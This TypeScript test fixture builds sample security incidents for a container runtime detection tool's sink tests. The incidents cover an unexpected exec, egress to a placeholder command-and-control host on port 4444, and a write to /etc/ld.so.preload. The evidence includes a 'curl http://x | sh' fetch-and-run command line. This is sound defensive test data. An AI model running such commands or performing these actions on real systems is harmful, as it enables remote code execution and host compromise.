/** Incidents with realistic evidence for sink tests. */
import type { TriplineEvent, WorkloadRef } from '../../../proto/events.js';
import { workloadKey } from '../../../proto/events.js';
import type { Incident, RuleId, Severity } from '../../../proto/incident.js';

const WORKLOAD: WorkloadRef = {
  cluster: 'prod-eu',
  namespace: 'payments',
  kind: 'Deployment',
  name: 'checkout',
  container: 'api',
};

function header(timeNs: number) {
  return {
    timeNs,
    node: 'node-a',
    seq: 7,
    container: {
      cgroupId: 4242,
      cgroupPath: '/kubepods.slice/kubepods-pod1.slice/cri-containerd-0123abcd.scope',
      containerId: '0123abcd',
      podUid: 'b1f0c7a2-1111-2222-3333-444455556666',
      workload: WORKLOAD,
      image: 'registry.example/checkout:1.4.2',
      imageDigest: 'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      privileged: false,
    },
    process: { pid: 3120, ppid: 3001, uid: 1000, exe: '/bin/sh', comm: 'sh', argv: ['sh', '-c', 'curl http://x | sh'] },
  };
}

export function execIncident(overrides: Partial<Incident> = {}): Incident {
  const evidence: TriplineEvent = {
    ...header(1_764_100_000_000_000_000),
    kind: 'exec',
    argvTruncated: false,
    cwd: '/app',
    writtenByContainer: false,
  };
  return incident(
    'unexpected-exec',
    'high',
    78,
    '/bin/sh',
    'Unexpected executable /bin/sh in payments/checkout (api)',
    evidence,
    overrides,
  );
}

export function connectIncident(overrides: Partial<Incident> = {}): Incident {
  const evidence: TriplineEvent = {
    ...header(1_764_100_001_000_000_000),
    kind: 'connect',
    protocol: 'tcp',
    ip: '203.0.113.9',
    port: 4444,
    dnsName: 'c2.example.net',
  };
  return incident(
    'unexpected-egress',
    'medium',
    55,
    'tcp/203.0.113.9:4444',
    'Unexpected egress to 203.0.113.9:4444/tcp',
    evidence,
    overrides,
  );
}

export function fileIncident(overrides: Partial<Incident> = {}): Incident {
  const evidence: TriplineEvent = {
    ...header(1_764_100_002_000_000_000),
    kind: 'file',
    op: 'open-write',
    path: '/etc/ld.so.preload',
    oldPath: '',
    flags: 0o101,
    resolved: true,
  };
  return incident(
    'protected-path-write',
    'critical',
    95,
    '/etc/ld.so.preload',
    'Write to protected path /etc/ld.so.preload',
    evidence,
    overrides,
  );
}

function incident(
  rule: RuleId,
  severity: Severity,
  score: number,
  key: string,
  summary: string,
  evidence: TriplineEvent,
  o: Partial<Incident>,
): Incident {
  const workload = o.workload ?? WORKLOAD;
  return {
    id: `inc-${rule}-0001`,
    revision: 1,
    rule,
    severity,
    score,
    workload,
    workloadKey: workloadKey(workload),
    key,
    summary,
    mitreTechniques: rule === 'unexpected-egress' ? ['T1071'] : ['T1059'],
    mitreTactics: rule === 'unexpected-egress' ? ['command-and-control'] : ['execution'],
    count: 3,
    firstSeenMs: Math.floor(evidence.timeNs / 1e6) - 60_000,
    lastSeenMs: Math.floor(evidence.timeNs / 1e6),
    evidence,
    context: ['tier:confidential'],
    ...o,
  };
}
